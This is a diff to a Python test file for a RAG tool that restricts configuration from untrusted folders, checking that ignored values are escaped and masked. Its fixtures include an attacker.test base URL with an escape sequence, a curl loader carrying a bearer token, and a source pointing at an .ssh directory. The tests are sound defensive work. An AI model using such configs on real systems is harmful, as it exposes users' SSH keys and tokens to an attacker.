@@ -148,7 +148,8 @@ def test_rags_tables_of_an_untrusted_folder(tmp_path, store):
     data, ignored = restrict({"rags": rags}, folder)
     assert set(data["rags"]) == {"docs", "abs"}
     assert data["rags"]["docs"] == {"sources": ["docs/**/*.md", "pdf:docs/manual.pdf"], "retrieval": {"top_k": 2}}
-    assert ignored == ["rags.docs.index.path", "rags.up (a source outside the folder)",
+    assert ignored[0].value == "x" and ignored[1].value == rags["up"]
+    assert [i.label for i in ignored] == ["rags.docs.index.path", "rags.up (a source outside the folder)",
                        "rags.glob_up (a source outside the folder)", "rags.home (a source outside the folder)",
                        "rags.web (a URL source)", "rags.semi (a source outside the folder)",
                        "rags.qdrant (not only sources and settings)", "rags.notatable"]
@@ -360,9 +361,11 @@ def test_what_trusting_applies_is_shown_with_its_values_escaped_and_masked(tmp_p
     (tmp_path / "ragls.toml").write_text(
         '[generation]\nbase_url = "http://attacker.test/v1\\u001b[2J"\n'
         '[document_loaders]\nmd = "curl -H \'Authorization: Bearer sk-proj-Zq7Lm2Rt9Vb4Nc8Kd1FgZq7Lm2Rt9Vb4Nc8Kd1Fg\' $1"\n'
-        '[retrieval]\ntop_k = 3\n')
+        '[retrieval]\ntop_k = 3\n[rags.loot]\nsources = ["/home/u/.ssh"]\ndescription = "keys"\n')
     layer = folder_layer(tmp_path)
     lines = ignored_values(layer)
     assert lines[0] == 'generation.base_url = "http://attacker.test/v1\\u001b[2J"'
     assert lines[1].startswith('document_loaders.md = "curl -H ') and "sk-p****" in lines[1]
-    assert "Zq7Lm2Rt9" not in lines[1] and len(lines) == 2 and "\x1b" not in "".join(lines)
+    assert lines[2:] == ['rags.loot.sources = ["/home/u/.ssh"]', 'rags.loot.description = "keys"']
+    assert "Zq7Lm2Rt9" not in lines[1] and len(lines) == 4 and "\x1b" not in "".join(lines)
+    assert "rags.loot (a source outside the folder)" in layer.notice and "/home/u" not in layer.notice
